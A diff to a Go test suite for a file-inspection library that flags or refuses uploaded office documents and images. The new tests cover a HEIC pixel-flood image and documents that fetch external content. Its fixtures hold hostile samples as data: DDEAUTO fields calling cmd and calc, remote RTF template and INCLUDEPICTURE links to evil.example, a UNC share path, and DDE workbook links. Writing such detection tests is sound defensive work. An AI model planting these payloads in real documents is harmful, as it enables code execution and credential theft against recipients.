@@ -202,12 +202,23 @@ func TestWhatAFileIsRefusedFor(t *testing.T) {
 		"entities, UTF-16":  {[]byte("\xff\xfe<\x00!\x00E\x00N\x00T\x00I\x00T\x00Y\x00"), "application/xml", inspect.Entities},
 		"xml":               {[]byte(`<?xml version="1.0"?><auditfile>&lt;!ENTITY</auditfile>`), "application/xml", ""},
 		"flood":             {pngOf(t, 100_000, 100_000), "image/png", inspect.Pixels},
+		"flood of a phone":  {heic(512, 100, 100_000, 100_000), "image/heic", inspect.Pixels},
 		"large photo":       {pngOf(t, 20_000, 20_000), "image/png", ""},
 	} {
 		if got := file(t, c.data, c.media, inspect.Rules{}); got.Refusal != c.want {
 			t.Errorf("%s: %+v, want %q", name, got, c.want)
 		}
 	}
+}
+
+// heic is as much of a HEIC file as tells the sizes of its images.
+func heic(sizes ...uint32) []byte {
+	b := []byte("\x00\x00\x00\x18ftypheic")
+	for i := 0; i+1 < len(sizes); i += 2 {
+		b = append(b, "\x00\x00\x00\x14ispe\x00\x00\x00\x00"...)
+		b = binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(b, sizes[i]), sizes[i+1])
+	}
+	return append(b, "\x00\x00\x00\x10mdat"...)
 }
 
 func link() zip.FileHeader {
@@ -254,13 +265,69 @@ func TestWhatStaffAreToldOf(t *testing.T) {
 		"torn entry":      {raw(t, zip.FileHeader{Name: "a", Method: zip.Deflate, CompressedSize64: 4, UncompressedSize64: 4}, []byte("\xff\xff\xff\xff")), zipf, []string{inspect.Uninspected}},
 		"no zip":          {[]byte("PK\x03\x04 and then nothing"), zipf, []string{inspect.Uninspected}},
 		"no image":        {[]byte("\x89PNG\r\n\x1a\n"), "image/png", []string{inspect.Uninspected}},
-		"photo of a cat":  {[]byte("\x00\x00\x00\x18ftypheic"), "image/heic", nil},
+		"photo of a cat":  {heic(4032, 3024), "image/heic", nil},
+		"photo of what":   {[]byte("\x00\x00\x00\x18ftypheic"), "image/heic", []string{inspect.Uninspected}},
 		"text":            {[]byte("Geachte heer,"), "text/plain", nil},
 	} {
 		if got := file(t, c.data, c.media, inspect.Rules{}); got.Refusal != "" || !slices.Equal(got.Flags, c.want) {
 			t.Errorf("%s: %+v, want %v", name, got, c.want)
 		}
 	}
+}
+
+// What a document of any kind takes from elsewhere when it is opened is noticed; what somebody follows,
+// and what is beside it, is not.
+func TestWhatADocumentFetches(t *testing.T) {
+	word := func(body string) []byte {
+		return zipped(t, "word/document.xml", `<w:document xmlns:w="w">`+body+`</w:document>`)
+	}
+	open := func(body string) []byte {
+		return zipped(t, "content.xml", `<office:document xmlns:office="o" xmlns:draw="d" xmlns:text="t" xmlns:z="http://www.w3.org/1999/xlink">`+body+`</office:document>`)
+	}
+	instr := func(pieces ...string) string {
+		return `<w:fldChar type="begin"/><w:instrText>` + strings.Join(pieces, `</w:instrText><w:instrText>`) + `</w:instrText><w:fldChar type="end"/>`
+	}
+	outside, macros, unknown := []string{inspect.External}, []string{inspect.Macros}, []string{inspect.Uninspected}
+	for name, c := range map[string]struct {
+		data  []byte
+		media string
+		want  []string
+	}{
+		"picture":               {open(`<draw:image z:href="https://evil.example/a.png"/>`), odt, outside},
+		"object of a share":     {open(`<draw:object z:href="\\evil.example\a"/>`), odt, outside},
+		"section, no scheme":    {open(`<text:section-source z:href="//evil.example/a"/>`), odt, outside},
+		"table of a program":    {open(`<office:dde-source/>`), odt, outside},
+		"script of the program": {open(`<script:event-listener z:href="vnd.sun.star.script:../../a.py$f"/>`), odt, macros},
+		"picture inside":        {open(`<draw:image z:href="Pictures/a.png"/>`), odt, nil},
+		"hyperlink":             {open(`<text:a z:href="https://example.nl">x</text:a>`), odt, nil},
+		"its own template":      {zipped(t, "meta.xml", `<meta:template xmlns:meta="m" xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="file:///home/a/brief.ott"/>`), odt, nil},
+		"dde":                   {word(instr(` DDEAUTO c:\\x "/k calc"`)), docx, outside},
+		"dde in pieces":         {word(instr(`D`, `DE `, `excel`)), docx, outside},
+		"dde, simple":           {word(`<w:fldSimple w:instr="dde a b"/>`), docx, outside},
+		"included":              {word(instr(`INCLUDEPICTURE "http://evil.example/a.png" \d`)), docx, outside},
+		"included from inside":  {word(instr(`INCLUDEPICTURE "media/a.png"`)), docx, nil},
+		"page number":           {word(instr(`PAGE \* MERGEFORMAT`) + `<w:t>DDE</w:t>`), docx, nil},
+		"workbook of a program": {zipped(t, "xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd"/></externalLink>`), docx, outside},
+		"UTF-16":                {zipped(t, "content.xml", utf16le(`<d:image xmlns:d="d" xmlns:x="http://www.w3.org/1999/xlink" x:href="http://evil.example"/>`)), odt, outside},
+		"rtf template":          {[]byte(`{\rtf1{\*\template http://evil.example/a.dotm}}`), "application/rtf", outside},
+		"rtf field":             {[]byte(`{\rtf1{\field{\*\fldinst DDEAUTO cmd}}}`), "application/rtf", outside},
+		"no XML":                {zipped(t, "content.xml", "<a><"), odt, unknown},
+		"deep":                  {zipped(t, "content.xml", strings.Repeat("<a>", 2000)), odt, unknown},
+		"long":                  {zipped(t, "content.xml", "<a>"+strings.Repeat("x", 2<<20)+"</a>"), odt, unknown},
+	} {
+		if got := file(t, c.data, c.media, inspect.Rules{}); got.Refusal != "" || !slices.Equal(got.Flags, c.want) {
+			t.Errorf("%s: %+v, want %v", name, got, c.want)
+		}
+	}
+}
+
+func utf16le(s string) string {
+	var b strings.Builder
+	for _, r := range s {
+		b.WriteRune(r)
+		b.WriteByte(0)
+	}
+	return b.String()
 }
 
 // An office decides what happens to macros and to what is fetched from elsewhere.
